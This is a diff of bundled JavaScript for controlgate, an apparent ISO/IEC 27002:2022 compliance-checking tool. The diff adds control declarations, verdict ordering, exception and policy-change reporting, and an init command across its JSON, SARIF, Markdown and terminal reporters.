+                if (!f.evidence.includes(e))
+                    f.evidence.push(e);
+            if (!f.because.includes(because))
+                f.because.push(because);
+            out.set(id, f);
+        }
+    };
+    const passed = new Set(report.rules.filter((r) => r.result === 'pass').map((r) => r.id));
+    const workflows = workspace
+        .glob(WORKFLOW_GLOBS)
+        .map((f) => readWorkflowSource(workspace, f))
+        .filter((w) => w?.kind === 'workflow' && runsOnChanges(w, ['main', 'master']));
+    for (const rule of rules) {
+        if (!passed.has(rule.id))
+            continue;
+        const options = (rule.check.with ?? {});
+        if (rule.check.kind === 'file.exists' && Array.isArray(options.paths)) {
+            add(rule.controls, workspace.glob(options.paths), rule.title);
+        }
+        else if (rule.check.kind === 'workflow.pr-evidence') {
+            const doing = workflows.filter((w) => w.jobs.some((j) => performs(j, options)));
+            add(rule.controls, doing.map((w) => w.path), rule.title);
+        }
     }
+    const deploying = workflows.filter((w) => w.jobs.some((j) => j.environment !== undefined));
+    add(['8.31'], deploying.map((w) => w.path), 'deployments run through GitHub environments');
+    return out;
+}
+/** Whether a job runs the activity a `workflow.pr-evidence` rule describes (its actions or commands). */
+function performs(job, options) {
+    const actions = Array.isArray(options.actions)
+        ? options.actions.map((a) => a.toLowerCase())
+        : [];
+    const commands = Array.isArray(options.commands)
+        ? options.commands.map((c) => new RegExp(c, 'i'))
+        : [];
+    return job.steps.some((s) => {
+        const ref = s.uses ? parseUses(s.uses.value) : undefined;
+        if (ref?.kind === 'repository') {
+            const name = [ref.owner, ref.repo, ...(ref.path ? [ref.path] : [])].join('/').toLowerCase();
+            if (actions.some((a) => name === a || name.startsWith(`${a}/`)))
+                return true;
+        }
+        return typeof s.run?.value === 'string' && commands.some((c) => c.test(s.run.value));
+    });
+}
+/** The first owner of the catch-all `*` rule in CODEOWNERS, as a sensible default owner. */
+function codeOwner(workspace) {
+    for (const f of ['.github/CODEOWNERS', 'CODEOWNERS', 'docs/CODEOWNERS']) {
+        const text = workspace.has(f) ? workspace.text(f) : undefined;
+        const m = text ? /^\*\s+(@[\w.-]+(?:\/[\w.-]+)?)/m.exec(text) : null;
+        if (m)
+            return m[1];
+    }
+    return undefined;
+}
+function baseName(root) {
+    return external_node_path_namespaceObject.basename(external_node_path_namespaceObject.resolve(root)) || 'this';
+}
+/** A YAML double-quoted scalar: JSON string syntax is valid YAML and escapes everything. */
+function q(s) {
+    return JSON.stringify(s);
 }
 
 ;// CONCATENATED MODULE: ./lib/reporters/escape.js
@@ -26432,7 +41747,7 @@ function annotationLevel(f) {
 function planAnnotations(report, options = {}) {
     const maxPerLevel = Math.max(1, Math.floor(options.maxPerLevel ?? DEFAULT_MAX_PER_LEVEL));
     const hint = options.fullReportHint ?? DEFAULT_HINT;
-    const open = byPriority(report.findings.filter((f) => f.status === 'open'));
+    const open = changedFirst(byPriority(report.findings.filter((f) => f.status === 'open')), options.onChangedLine);
     const total = { error: 0, warning: 0, notice: 0 };
     for (const f of open)
         total[annotationLevel(f)] += 1;
@@ -26468,6 +41783,16 @@ function planAnnotations(report, options = {}) {
         });
     }
     return plan;
+}
+/** Within each priority group (blocking, other open), findings on changed lines first; stable. */
+function changedFirst(findings, changed) {
+    if (!changed)
+        return findings;
+    const rank = (f) => (f.blocking ? 0 : 2) + (changed(f) ? 0 : 1);
+    return findings
+        .map((f, i) => ({ f, i, r: rank(f) }))
+        .sort((a, b) => a.r - b.r || a.i - b.i)
+        .map(({ f }) => f);
 }
 function annotation(f, level) {
     const controls = f.controls.length > 0
@@ -26527,15 +41852,71 @@ function gateThreshold(report) {
     const { failOn } = report.summary.gate;
     return failOn === 'never' ? 'fail-on never: the gate is disabled' : `fail-on ${failOn}`;
 }
+/** The rule whose findings are changes to the policy, shown in their own section. */
+const POLICY_CHANGE_RULE = 'policy-change';
+/** Which control a finding is listed under, first to last: declared controls before undeclared ones. */
+const HOME_ORDER = [
+    'gap',
+    'unverifiable',
+    'planned',
+    'undeclared',
+    'satisfied',
+    'not-applicable',
+];
 /**
- * A control's result as shown to people: `error` (a mapped rule could not run, so nothing is proven)
- * reads as `incomplete`.
+ * Controls in the order people should read them: gaps first, then unverifiable and planned
+ * declarations, undeclared controls, and finally the satisfied and not-applicable ones; by id within
+ * each verdict (the report's own order).
  */
-function shownControlResult(c) {
-    return c.result === 'error' ? 'incomplete' : c.result;
+function controlsByVerdict(report) {
+    return [...report.controls].sort((a, b) => HOME_ORDER.indexOf(a.verdict) - HOME_ORDER.indexOf(b.verdict));
+}
+/**
+ * Whether a control deserves a row or a section of its own: it is declared, or something about it
+ * needs attention (findings, a gap, an unverifiable answer). Undeclared controls with nothing to
+ * report are only listed by id.
+ */
+function isNotable(c) {
+    return c.declared !== null || c.findings > 0 || c.verdict !== 'undeclared';
+}
+/**
+ * The control a finding is listed under in grouped outputs: of the controls it maps to, the one that
+ * needs the most attention (a gap first, then an unverifiable or planned declaration), else its rule's
+ * first control.
+ */
+function homeControl(f, verdicts) {
+    let best = f.controls[0] ?? '';
+    let rank = HOME_ORDER.indexOf(verdicts.get(best) ?? 'undeclared');
+    for (const c of f.controls.slice(1)) {
+        const r = HOME_ORDER.indexOf(verdicts.get(c) ?? 'undeclared');
+        if (r < rank) {
+            best = c;
+            rank = r;
+        }
+    }
+    return best;
+}
+/** The declared status in words: `implemented`, `not declared`, with the 2013 id it came from. */
+function declaredLabel(c) {
+    if (!c.declared)
+        return 'not declared';
+    return c.declared.from2013 ? `${c.declared.status} (as ${c.declared.from2013})` : c.declared.status;
+}
+/** The gate's settings in words: `fail-on high, fail-on-gap`, or that a part is off. */
+function gateSettings(report) {
+    const gap = report.summary.gate.failOnGap ? 'fail-on-gap' : 'fail-on-gap off';
+    return `${gateThreshold(report)}; ${gap}`;
 }
 
 ;// CONCATENATED MODULE: ./lib/reporters/json.js
+/**
+ * The JSON report: controlgate's public, frozen v1 format (schemas/report.schema.json). Keys are
+ * written in a fixed order, spelled out below rather than inherited from whichever code built the
+ * Report, so the output is byte-stable and diffable across versions. A field added to the Report
+ * type does not leak into v1 by accident: it must be added here and to the schema (a test compares
+ * the round trip with the Report to catch a forgotten field).
+ */
+
 
 /** Pretty-printed JSON report (two-space indent, stable key order, trailing newline). */
 function renderJson(report) {
@@ -26553,14 +41934,19 @@ function canonicalReport(report) {
         repository: { root: report.repository.root, head: report.repository.head, base: report.repository.base },
         settings: {
             failOn: report.settings.failOn,
+            failOnGap: report.settings.failOnGap,
+            requireDeclarations: report.settings.requireDeclarations,
+            exceptionMaxDays: report.settings.exceptionMaxDays,
             config: report.settings.config,
+            controls: report.settings.controls,
             ruleDirs: [...report.settings.ruleDirs],
             include: [...report.settings.include],
             exclude: [...report.settings.exclude],
         },
+        policy: policy(report.policy),
         rules: report.rules.map(rule),
         controls: report.controls.map(control),
-        findings: report.findings.map(finding),
+        findings: report.findings.map(json_finding),
         errors: report.errors.map(error),
         summary: summary(report.summary),
     };
@@ -26577,18 +41963,60 @@ function rule(r) {
         source: r.source,
         result: r.result,
         findings: r.findings,
+        ...(r.detail !== undefined ? { detail: r.detail } : {}),
+    };
+}
+function policy(p) {
+    return {
+        source: p.source,
+        base: p.base,
+        controls: p.controls,
+        warnings: [...p.warnings],
+        notices: [...p.notices],
     };
 }
 function control(c) {
     return {
         id: c.id,
         title: c.title,
-        result: c.result,
+        declared: c.declared ? json_declared(c.declared) : null,
+        verdict: c.verdict,
+        reasons: [...c.reasons],
+        evidence: c.evidence.map((e) => ({ ref: e.ref, kind: e.kind, status: e.status, detail: e.detail })),
+        exceptions: c.exceptions.map((e) => ({
+            id: e.id,
+            state: e.state,
+            expires: e.expires,
+            findings: e.findings,
+        })),
         rules: c.rules.map((r) => ({ id: r.id, result: r.result, findings: r.findings })),
         findings: c.findings,
+        open: c.open,
     };
 }
-function finding(f) {
+function json_declared(d) {
+    return {
+        status: d.status,
+        justification: d.justification,
+        owner: d.owner,
+        due: d.due,
+        location: d.location ? json_location(d.location) : null,
+        from2013: d.from2013,
+    };
+}
+function exception(e) {
+    // Spread in the documented key order; absent optional keys stay absent.
+    return {
+        kind: e.kind,
+        ...(e.id !== undefined ? { id: e.id } : {}),
+        reason: e.reason,
+        ...(e.approvedBy !== undefined ? { approvedBy: e.approvedBy } : {}),
+        ...(e.expires !== undefined ? { expires: e.expires } : {}),
+        ...(e.expired !== undefined ? { expired: e.expired } : {}),
+        location: json_location(e.location),
+    };
+}
+function json_finding(f) {
     const out = {
         ruleId: f.ruleId,
         title: f.title,
@@ -26604,6 +42032,8 @@ function finding(f) {
     };
     if (f.isNew !== undefined)
         out.isNew = f.isNew;
+    if (f.exception)
+        out.exception = exception(f.exception);
     return out;
 }
 function json_location(l) {
@@ -26630,8 +42060,14 @@ function summary(s) {
         blocking: s.blocking,
         bySeverity,
         byStatus: { open: s.byStatus.open, excepted: s.byStatus.excepted, ignored: s.byStatus.ignored },
+        byVerdict: Object.fromEntries(VERDICTS.map((v) => [v, s.byVerdict[v]])),
         errors: s.errors,
-        gate: { result: s.gate.result, failOn: s.gate.failOn, reasons: [...s.gate.reasons] },
+        gate: {
+            result: s.gate.result,
+            failOn: s.gate.failOn,
+            failOnGap: s.gate.failOnGap,
+            reasons: [...s.gate.reasons],
+        },
     };
 }
 
@@ -26647,14 +42083,25 @@ const markdown_DEFAULT_HINT = 'the JSON report or the SARIF results in code scan
 const markdown_MAX_MESSAGE = 300;
 const MAX_PATH = 200;
 const MAX_REMEDIATION = 600;
-const MAX_RULES_PER_CONTROL = 8;
+const MAX_REASON = 300;
 const MAX_ERRORS = 50;
+const MAX_POLICY_CHANGES = 50;
+const VERDICT_LABEL = {
+    gap: '❌ gap',
+    unverifiable: '⚠️ unverifiable',
+    undeclared: '❔ undeclared',
+    planned: '🗓️ planned',
+    satisfied: '✅ satisfied',
+    'not-applicable': '➖ not applicable',
+};
 /** Renders the report as GitHub Flavored Markdown, at most `maxBytes` UTF-8 bytes. */
 function renderMarkdown(report, options = {}) {
     const maxFindings = Math.max(0, Math.floor(options.maxFindings ?? DEFAULT_MAX_FINDINGS));
     const maxBytes = options.maxBytes ?? MAX_SUMMARY_BYTES;
     const hint = escapeMarkdown(options.fullReportHint ?? markdown_DEFAULT_HINT);
-    const head = [...resultSection(report), ...controlsSection(report.controls)].join('\n').trimEnd();
+    const head = [...resultSection(report), ...controlsSection(report), ...policySection(report)]
+        .join('\n')
+        .trimEnd();
     const errors = errorsSection(report).join('\n');
     // Room kept for the "not shown" note, the section headings and the truncation fallback.
     const reserve = 1024 + utf8Bytes(hint);
@@ -26707,7 +42154,7 @@ function resultSection(report) {
     const s = report.summary;
     const pass = s.gate.result === 'pass';
     const out = [`## ${pass ? '✅' : '❌'} controlgate: gate ${pass ? 'passed' : 'failed'}`, ''];
-    out.push(`${pass ? 'Passed' : '**Failed**'} (${escapeMarkdown(gateThreshold(report))}).`);
+    out.push(`${pass ? 'Passed' : '**Failed**'} (${escapeMarkdown(gateSettings(report))}).`);
     for (const reason of s.gate.reasons)
         out.push(`- ${escapeMarkdown(reason)}`);
     out.push('');
@@ -26724,34 +42171,70 @@ function resultSection(report) {
     out.push('');
     return out;
 }
-function controlsSection(controls) {
-    const covered = controls.filter((c) => c.result !== 'not-covered');
-    const uncovered = controls.filter((c) => c.result === 'not-covered');
+/** The control table leads: gaps first, with the reason; quiet undeclared controls are collapsed. */
+function controlsSection(report) {
+    const ordered = controlsByVerdict(report);
+    const rows = ordered.filter(isNotable);
+    const quiet = ordered.filter((c) => !isNotable(c));
     const out = ['### ISO/IEC 27002:2022 controls', ''];
-    if (covered.length > 0) {
-        out.push('| Control | Title | Result | Findings | Rules |', '| --- | --- | --- | ---: | --- |');
-        for (const c of covered) {
-            const shown = shownControlResult(c);
-            const result = shown === 'fail' ? '❌ fail' : shown === 'pass' ? '✅ pass' : '⚠️ incomplete (a rule errored)';
-            const rules = c.rules.slice(0, MAX_RULES_PER_CONTROL).map((r) => codeSpan(r.id, { table: true }));
-            const more = c.rules.length - rules.length;
-            if (more > 0)
-                rules.push(`+${more} more`);
-            out.push(`| ${escapeMarkdown(c.id)} | ${escapeMarkdown(c.title)} | ${result} | ${c.findings} | ${rules.join(', ')} |`);
-        }
+    const counts = Object.entries(report.summary.byVerdict)
+        .filter(([, n]) => n > 0)
+        .map(([v, n]) => `${n} ${v}`)
+        .join(' · ');
+    out.push(`${counts}.`, '');
+    if (!report.policy.controls) {
+        out.push(`No declarations file (${markdownCode(report.settings.controls)}): every control is undeclared. \`controlgate init\` drafts one.`, '');
+    }
+    if (rows.length > 0) {
+        out.push('| Control | Title | Declared | Verdict | Findings | Why |', '| --- | --- | --- | --- | ---: | --- |');
+        for (const c of rows)
+            out.push(controlRow(c));
         out.push('');
     }
-    else {
-        out.push('No control is covered by an enabled rule.', '');
+    if (quiet.length > 0) {
+        const list = quiet.map((c) => `${escapeMarkdown(c.id)} ${escapeMarkdown(c.title)}`).join(' · ');
+        out.push(`<details><summary>${escape_plural(quiet.length, 'undeclared control')} with no findings</summary>`, '', list, '', '</details>', '');
     }
-    if (uncovered.length > 0) {
-        const list = uncovered.map((c) => `${escapeMarkdown(c.id)} ${escapeMarkdown(c.title)}`).join(' · ');
-        out.push(`<details><summary>${escape_plural(uncovered.length, 'control')} not covered by any enabled rule</summary>`, '', list, '', '</details>', '');
+    for (const w of report.policy.warnings)
+        out.push(`> [!WARNING]`, `> ${escapeMarkdown(w)}`, '');
+    return out;
+}
+function controlRow(c) {
+    const findings = c.open === c.findings ? `${c.findings}` : `${c.findings} (${c.open} open)`;
+    const why = c.reasons.map((r) => escapeMarkdown(escape_truncate(r, MAX_REASON))).join('; ') || '—';
+    return `| ${escapeMarkdown(c.id)} | ${escapeMarkdown(c.title)} | ${escapeMarkdown(declaredLabel(c))} | ${VERDICT_LABEL[c.verdict]} | ${findings} | ${why} |`;
+}
+/** Changes to the policy made by the change under review, each needing a reviewer's eye. */
+function policySection(report) {
+    const changes = report.findings.filter((f) => f.ruleId === POLICY_CHANGE_RULE);
+    const out = [];
+    if (changes.length > 0) {
+        out.push('### Policy changes (need review)', '');
+        for (const f of changes.slice(0, MAX_POLICY_CHANGES)) {
+            const where = f.location ? `${locationCell(f)}: ` : '';
+            out.push(`- ${where}${escapeMarkdown(escape_truncate(f.message, markdown_MAX_MESSAGE))}`);
+        }
+        const more = changes.length - MAX_POLICY_CHANGES;
+        if (more > 0)
+            out.push(`- ${escape_plural(more, 'more policy change')} in the findings below.`);
+        out.push('');
+    }
+    if (report.policy.notices.length > 0) {
+        out.push(`<details><summary>${escape_plural(report.policy.notices.length, 'notice')}</summary>`, '', ...report.policy.notices
+            .slice(0, MAX_ERRORS)
+            .map((n) => `- ${escapeMarkdown(escape_truncate(n, markdown_MAX_MESSAGE))}`), '', '</details>', '');
     }
     return out;
 }
 function findingRow(f) {
-    const tags = [f.blocking ? 'blocking' : '', f.status === 'open' ? '' : f.status].filter(Boolean);
+    const status = f.status === 'open'
+        ? f.exception?.expired
+            ? `exception ${escape_truncate(f.exception.id ?? '', 100)} expired`
+            : ''
+        : f.exception?.kind === 'exception'
+            ? `excepted (${escape_truncate(f.exception.id ?? '', 100)})`
+            : f.status;
+    const tags = [f.blocking ? 'blocking' : '', status].filter(Boolean).map(escapeMarkdown);
     const severity = (f.blocking ? `**${f.severity}**` : f.severity) + (tags.length ? ` · ${tags.join(' · ')}` : '');
     const where = f.location ? locationCell(f) : REPOSITORY_LABEL;
     const message = escapeMarkdown(escape_truncate(f.message, markdown_MAX_MESSAGE));
@@ -26920,21 +42403,27 @@ function result(f, ruleIndex) {
     };
     if (f.isNew !== undefined)
         out.properties.isNew = f.isNew;
-    if (f.status === 'excepted') {
+    if (f.status === 'excepted' || f.status === 'ignored') {
         out.suppressions = [
             {
-                kind: 'external',
+                kind: f.status === 'excepted' ? 'external' : 'inSource',
                 status: 'accepted',
-                justification: 'Covered by an approved exception in the declarations.',
+                justification: justification(f),
             },
         ];
     }
-    else if (f.status === 'ignored') {
-        out.suppressions = [
-            { kind: 'inSource', status: 'accepted', justification: 'Ignored by an ignore directive.' },
-        ];
-    }
     return out;
+}
+/** Why a finding is suppressed, from the exception or the inline ignore that did it. */
+function justification(f) {
+    const e = f.exception;
+    if (!e)
+        return f.status === 'excepted' ? 'Covered by an approved exception.' : 'Ignored inline.';
+    const where = `${e.location.path}:${e.location.startLine}`;
+    if (e.kind === 'inline-ignore')
+        return escape_singleLine(`Ignored inline at ${where}: ${e.reason}`);
+    const approved = e.approvedBy ? `; approved by ${e.approvedBy}` : '';
+    return escape_singleLine(`Exception ${e.id ?? ''} (${where}${approved}; expires ${e.expires ?? '?'}): ${e.reason}`);
 }
 function sarif_location(f) {
     const loc = f.location;
@@ -27013,11 +42502,19 @@ const SEVERITY_STYLE = {
     low: 'cyan',
     info: 'gray',
 };
-/** Longest title printed in the coverage table before it is shortened. */
-const TITLE_WIDTH = 48;
+const VERDICT_STYLE = {
+    gap: 'red',
+    unverifiable: 'yellow',
+    undeclared: 'gray',
+    planned: 'cyan',
+    satisfied: 'green',
+    'not-applicable': 'gray',
+};
 /**
- * Renders the terminal report: header, findings grouped by control, control coverage, summary with
- * the gate decision, and rule errors. Colour (ANSI SGR) only when `options.color` is true.
+ * Renders the terminal report: header, then one section per control that has something to say
+ * (gaps first: verdict, declared status, why, its findings), the other controls by verdict, policy
+ * changes, notices, the summary with the gate decision, and rule errors. Colour (ANSI SGR) only when
+ * `options.color` is true.
  */
 function renderText(report, options = {}) {
     const paint = (style, s) => options.color ? `\u001b[${SGR[style]}m${s}\u001b[0m` : s;
@@ -27028,13 +42525,19 @@ function renderText(report, options = {}) {
         ? `  (head ${escapeControls(report.repository.head.slice(0, 12))})`
         : '';
     out.push(`root   ${escapeControls(report.repository.root)}${head}`);
-    const failOn = `fail-on ${report.settings.failOn}`;
-    out.push(`scope  ${escape_plural(report.summary.files, 'file')}, ${escape_plural(report.summary.rules, 'rule')}, ${failOn}`);
+    out.push(`scope  ${escape_plural(report.summary.files, 'file')}, ${escape_plural(report.summary.rules, 'rule')}, ${gateSettings(report)}`);
     if (report.settings.config)
         out.push(`config ${escapeControls(report.settings.config)}`);
+    out.push(`policy ${policyLine(report)}`);
+    for (const w of report.policy.warnings)
+        out.push(paint('red', `warning: ${escape_singleLine(w)}`));
     out.push('');
-    out.push(...findingsSection(report, titles, paint));
-    out.push(...coverageSection(report, paint));
+    out.push(...controlSections(report, titles, paint));
+    out.push(...otherControls(report, paint));
+    out.push(...policyChangesSection(report, paint));
+    if (report.policy.notices.length > 0) {
+        out.push(paint('bold', 'Notices'), ...report.policy.notices.map((n) => `  - ${escape_singleLine(n)}`), '');
+    }
     out.push(...summarySection(report, paint));
     if (report.errors.length > 0) {
         out.push('', paint('bold', `Rule errors (${report.errors.length})`));
@@ -27044,23 +42547,51 @@ function renderText(report, options = {}) {
     }
     return `${out.join('\n')}\n`;
 }
-function findingsSection(report, titles, paint) {
-    if (report.findings.length === 0)
-        return [paint('green', 'No findings.'), ''];
-    // A finding belongs to its rule's first (primary) control; the others are named under it.
+function policyLine(report) {
+    const file = report.policy.controls
+        ? escapeControls(report.policy.controls)
+        : `no declarations (${escapeControls(report.settings.controls)} not found)`;
+    const from = report.policy.source === 'base' && report.policy.base
+        ? `read from base ${escapeControls(report.policy.base.slice(0, 12))}`
+        : 'read from the working tree';
+    return `${file}, ${from}`;
+}
+/**
+ * One section per control with findings, a gap or an unverifiable verdict. A finding is listed once,
+ * under the control where it matters most (see homeControl); its other controls are named under it.
+ * Policy changes have their own section.
+ */
+function controlSections(report, titles, paint) {
+    const verdicts = new Map(report.controls.map((c) => [c.id, c.verdict]));
     const groups = new Map();
     for (const f of report.findings) {
-        const key = f.controls[0] ?? '';
-        const list = groups.get(key) ?? [];
-        list.push(f);
-        groups.set(key, list);
+        if (f.ruleId === POLICY_CHANGE_RULE)
+            continue;
+        const key = homeControl(f, verdicts);
+        const list = groups.get(key);
+        if (list)
+            list.push(f);
+        else
+            groups.set(key, [f]);
     }
+    const shown = controlsByVerdict(report).filter((c) => groups.has(c.id) || c.verdict === 'gap' || c.verdict === 'unverifiable');
+    if (shown.length === 0 && report.findings.length === 0)
+        return [paint('green', 'No findings.'), ''];
     const out = [paint('dim', '! marks a finding that fails the gate'), ''];
     const sevWidth = Math.max(...SEVERITY_ORDER.map((s) => s.length));
-    for (const id of [...groups.keys()].sort(compareControlIds)) {
-        const list = groups.get(id);
-        const heading = id ? `${escapeControls(id)}  ${escape_singleLine(titles.get(id) ?? '')}` : '(no control)';
-        out.push(`${paint('bold', heading)}  ${paint('dim', `(${escape_plural(list.length, 'finding')})`)}`);
+    const indent = ' '.repeat(sevWidth + 4);
+    for (const c of shown) {
+        const list = groups.get(c.id) ?? [];
+        const verdict = paint(VERDICT_STYLE[c.verdict], c.verdict.toUpperCase());
+        const count = c.findings > 0 ? `, ${escape_plural(c.findings, 'finding')}` : '';
+        out.push(`${paint('bold', `${escapeControls(c.id)}  ${escape_singleLine(c.title)}`)}  ${verdict}  ${paint('dim', `(${escape_singleLine(declaredLabel(c))}${count})`)}`);
+        for (const r of c.reasons)
+            out.push(`    ${paint('dim', '-')} ${escape_singleLine(r)}`);
+        if (c.findings > list.length) {
+            const elsewhere = report.findings.filter((f) => f.controls.includes(c.id) && !list.includes(f));
+            const where = [...new Set(elsewhere.map((f) => homeControl(f, verdicts)))].map(escapeControls);
+            out.push(`    ${paint('dim', `(${escape_plural(elsewhere.length, 'more finding')} listed under ${where.join(', ')})`)}`);
+        }
         for (const f of list) {
             const mark = f.blocking ? paint('red', '!') : ' ';
             const sev = paint(SEVERITY_STYLE[f.severity], f.severity.padEnd(sevWidth));
@@ -27068,16 +42599,17 @@ function findingsSection(report, titles, paint) {
             const status = f.status === 'open' ? '' : paint('dim', ` (${f.status})`);
             const rule = paint('dim', `[${escapeControls(f.ruleId)}]`);
             out.push(`${mark} ${sev}  ${where}  ${escape_singleLine(f.message)}  ${rule}${status}`);
-            const indent = ' '.repeat(sevWidth + 4);
             if (f.location?.endLine !== undefined && f.location.endLine !== f.location.startLine) {
                 out.push(`${indent}${paint('dim', `lines ${f.location.startLine}-${f.location.endLine}`)}`);
             }
-            const others = f.controls.slice(1);
+            const others = f.controls.filter((o) => o !== c.id);
             if (others.length > 0) {
-                const named = others.map((c) => `${escapeControls(c)} ${escape_singleLine(titles.get(c) ?? '')}`.trim());
+                const named = others.map((o) => `${escapeControls(o)} ${escape_singleLine(titles.get(o) ?? '')}`.trim());
                 out.push(`${indent}also: ${named.join('; ')}`);
             }
-            if (f.remediation)
+            if (f.exception)
+                out.push(`${indent}${paint('dim', `${exceptionLine(f.exception)}`)}`);
+            if (f.status === 'open' && f.remediation)
                 out.push(`${indent}fix:  ${escape_singleLine(f.remediation)}`);
             out.push(`${indent}${paint('dim', `help: ${escapeControls(f.helpUri)}`)}`);
         }
@@ -27085,25 +42617,38 @@ function findingsSection(report, titles, paint) {
     }
     return out;
 }
-function coverageSection(report, paint) {
-    const covered = report.controls.filter((c) => c.result !== 'not-covered');
-    const out = [
-        paint('bold', `Controls (${covered.length} of ${report.controls.length} covered by enabled rules)`),
-    ];
-    const idWidth = Math.max(4, ...covered.map((c) => escapeControls(c.id).length));
-    const titleWidth = Math.min(TITLE_WIDTH, Math.max(0, ...covered.map((c) => escape_singleLine(c.title).length)));
-    const resultWidth = Math.max(0, ...covered.map((c) => shownControlResult(c).length));
-    for (const c of covered) {
-        const title = escape_truncate(escape_singleLine(c.title), TITLE_WIDTH).padEnd(titleWidth);
-        const shown = shownControlResult(c);
-        const result = paint(shown === 'fail' ? 'red' : shown === 'pass' ? 'green' : 'yellow', shown.padEnd(resultWidth));
-        const findings = escape_plural(c.findings, 'finding').padStart(11);
-        out.push(`  ${escapeControls(c.id).padEnd(idWidth)}  ${title}  ${result}  ${findings}  ${escape_plural(c.rules.length, 'rule')}`);
+function exceptionLine(e) {
+    const where = `${escapeControls(e.location.path)}:${e.location.startLine}`;
+    if (e.kind === 'inline-ignore')
+        return `ignored at ${where}: ${escape_singleLine(e.reason)}`;
+    const who = e.approvedBy ? `, approved by ${escape_singleLine(e.approvedBy)}` : '';
+    const state = e.expired ? `expired on ${e.expires}` : `expires ${e.expires ?? '?'}`;
+    return `exception ${escape_singleLine(e.id ?? '')} (${where}${who}, ${state}): ${escape_singleLine(e.reason)}`;
+}
+/** Controls without a section of their own, one line per verdict. */
+function otherControls(report, paint) {
+    const counts = VERDICTS.filter((v) => report.summary.byVerdict[v] > 0)
+        .map((v) => paint(VERDICT_STYLE[v], `${report.summary.byVerdict[v]} ${v}`))
+        .join(', ');
+    const out = [`${paint('bold', `Controls (${report.controls.length})`)}  ${counts}`];
+    const width = Math.max(...VERDICTS.map((v) => v.length));
+    for (const v of VERDICTS) {
+        const ids = report.controls.filter((c) => c.verdict === v).map((c) => escapeControls(c.id));
+        if (ids.length > 0)
+            out.push(`  ${paint(VERDICT_STYLE[v], v.padEnd(width))}  ${ids.join(', ')}`);
     }
-    const uncovered = report.controls.filter((c) => c.result === 'not-covered');
-    if (uncovered.length > 0) {
-        const ids = uncovered.map((c) => escapeControls(c.id)).join(', ');
-        out.push(paint('dim', `  not covered (${uncovered.length}): ${ids}`));
+    out.push('');
+    return out;
+}
+function policyChangesSection(report, paint) {
+    const changes = report.findings.filter((f) => f.ruleId === POLICY_CHANGE_RULE);
+    if (changes.length === 0)
+        return [];
+    const out = [paint('bold', `Policy changes (${changes.length}, need review)`)];
+    for (const f of changes) {
+        const mark = f.blocking ? paint('red', '!') : ' ';
+        const where = escapeControls(position(f.location, false) ?? REPOSITORY_LABEL);
+        out.push(`${mark} ${paint(SEVERITY_STYLE[f.severity], f.severity)}  ${where}  ${escape_singleLine(f.message)}`);
     }
     out.push('');
     return out;
@@ -27119,7 +42664,7 @@ function summarySection(report, paint) {
     if (s.errors > 0)
         out.push(`  ${paint('red', escape_plural(s.errors, 'rule error'))}`);
     const gate = s.gate.result === 'pass' ? paint('green', 'PASS') : paint('red', 'FAIL');
-    out.push(`Gate: ${gate} ${paint('dim', `(${gateThreshold(report)})`)}`);
+    out.push(`Gate: ${gate} ${paint('dim', `(${gateSettings(report)})`)}`);
     for (const reason of s.gate.reasons)
         out.push(`  - ${escape_singleLine(reason)}`);
     return out;
@@ -27142,7 +42687,6 @@ function summarySection(report, paint) {
 
 /** Terminal text from repository-free data still goes through this, to keep every line printable. */
 function clean(text) {
-    // biome-ignore lint/suspicious/noControlCharactersInRegex: stripping control characters is the point
     return text.replace(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/g, '');
 }
 function table(rows) {
@@ -27157,7 +42701,9 @@ function table(rows) {
 /** `controlgate rules`: every rule with severity and controls, or (`kinds`) the check kinds. */
 function rulesCommand(options) {
     if (options.kinds) {
-        const kinds = allEvaluators().map((e) => ({ kind: e.kind, summary: e.summary, options: e.schema }));
+        const kinds = allEvaluators()
+            .filter((e) => !e.kind.startsWith('policy.')) // reserved for the built-in policy rules
+            .map((e) => ({ kind: e.kind, summary: e.summary, options: e.schema }));
         if (options.json)
             return `${JSON.stringify(kinds, null, 2)}\n`;
         return `${table([['KIND', 'WHAT IT CHECKS'], ...kinds.map((k) => [k.kind, k.summary])])}\n`;
@@ -27277,6 +42823,7 @@ function ruleJson(r) {
 
 
 
+
 /** Process exit codes: the contract scripts rely on. */
 const EXIT = { passed: 0, gateFailed: 1, usage: 2, internal: 3 };
 const main_FORMATS = ['text', 'json', 'sarif', 'markdown'];
@@ -27284,6 +42831,7 @@ const USAGE = `controlgate ${VERSION} — ISO/IEC 27002:2022 technological contr
 
 Usage:
   controlgate check [dir]     check a repository (default: the current directory)
+  controlgate init [dir]      draft .github/controls.yml (the declarations) for a repository
   controlgate rules           list the rules (--kinds: the check kinds for custom rules)
   controlgate controls        list the 34 technological controls and the rules covering each
   controlgate explain <id>    explain a rule id or a control id (e.g. 8.28)
@@ -27292,10 +42840,19 @@ Options for check:
   --format <f>      text | json | sarif | markdown (default: text)
   --output <file>   write the report to a file instead of stdout
   --config <file>   configuration file (default: .controlgate.yml in the checked directory)
+  --controls <file> declarations file (default: config's controls, else .github/controls.yml)
+  --base <ref>      read the policy from this commit (a pull request's base) and report
+                    what the checked tree changes in it
   --rules <dir>     extra rule directory (repeatable)
   --rule <id>       evaluate only this rule (repeatable)
   --fail-on <s>     info | low | medium | high | critical | never (default: config, else high)
+  --fail-on-gap/--no-fail-on-gap  fail when a declared control has a gap (default: config, else on)
+  --require-declarations <r>  none | technological (default: config, else none)
+  --default-branch <name>  branch that workflows cited as evidence must run on pushes to
   --color/--no-color  force or disable colours in the text report (default: on for a terminal)
+
+Options for init:
+  --controls <file> where to write the draft (default: .github/controls.yml); never overwritten
 
 Other options:
   --json            (rules, controls, explain) print JSON
@@ -27334,6 +42891,12 @@ async function dispatch(argv, io) {
             rules: { type: 'string', multiple: true },
             rule: { type: 'string', multiple: true },
             'fail-on': { type: 'string' },
+            controls: { type: 'string' },
+            base: { type: 'string' },
+            'fail-on-gap': { type: 'boolean' },
+            'no-fail-on-gap': { type: 'boolean' },
+            'require-declarations': { type: 'string' },
+            'default-branch': { type: 'string' },
             color: { type: 'boolean' },
             'no-color': { type: 'boolean' },
             json: { type: 'boolean' },
@@ -27356,7 +42919,12 @@ async function dispatch(argv, io) {
         case 'check': {
             if (rest.length > 1)
                 throw new UsageError(`check takes one directory, got: ${rest.join(' ')}`);
-            return check(rest[0] ?? '.', values, io);
+            return main_check(rest[0] ?? '.', values, io);
+        }
+        case 'init': {
+            if (rest.length > 1)
+                throw new UsageError(`init takes one directory, got: ${rest.join(' ')}`);
+            return init(rest[0] ?? '.', values, io);
         }
         case 'rules':
